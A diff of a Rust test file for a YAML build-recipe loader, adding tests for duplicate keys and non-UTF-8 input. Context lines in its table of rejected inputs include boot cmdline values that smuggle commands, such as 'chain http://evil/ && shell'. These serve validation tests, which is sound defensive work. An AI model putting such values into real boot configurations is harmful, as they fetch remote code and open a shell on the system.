@@ -122,6 +122,9 @@ const BAD: &[(&str, usize, usize, &str)] = &[
     ("stages:\n  - debootstrap: { suite: bookworm }\nboot:\n  cmdline: \"console=ttyS0\\nchain http://evil/ && shell\"\n", 7, 12, "line break"),
     ("stages:\n  - debootstrap: { suite: bookworm }\nboot:\n  cmdline: \"quiet || shell\"\n", 7, 12, "boot scripts give a meaning"),
     ("stages:\n  - debootstrap: { suite: bookworm }\nboot: { cmdline: x, kernel: y }\n", 6, 21, "unknown field `kernel`"),
+    // a key given twice: where it is given again
+    ("stages:\n  - debootstrap: { suite: bookworm }\nversion: 2.0.0\n", 6, 1, "`version` is given twice"),
+    ("stages:\n  - run: { sh: a, sh: b }\n", 5, 19, "`stages[0].run.sh` is given twice"),
 ];
 
 #[test]
@@ -233,6 +236,16 @@ fn set_of_an_undeclared_variable_is_an_error() {
     let Diagnostics(errors) = load_str(&dir.path().join("r.yaml"), &source, &options).unwrap_err();
     assert_eq!(errors[0].line_column(), (4, 1));
     assert!(errors[0].message.contains("`suit`"));
+}
+
+#[test]
+fn a_recipe_that_is_not_utf8_is_named_at_its_line_and_byte() {
+    let dir = fixture_dir();
+    let file = dir.path().join("latin1.yaml");
+    fs_err::write(&file, b"rootsmith: 1\nname: demo\n# caf\xe9\nversion: 1.0.0\n").unwrap();
+    let Diagnostics(errors) = load(&file, &LoadOptions::default()).unwrap_err();
+    assert_eq!((errors[0].position.line, errors[0].position.column), (3, 6), "{:?}", errors[0]);
+    assert!(errors[0].message.contains("not UTF-8 text: byte 0xe9 at line 3, column 6"), "{}", errors[0].message);
 }
 
 #[test]
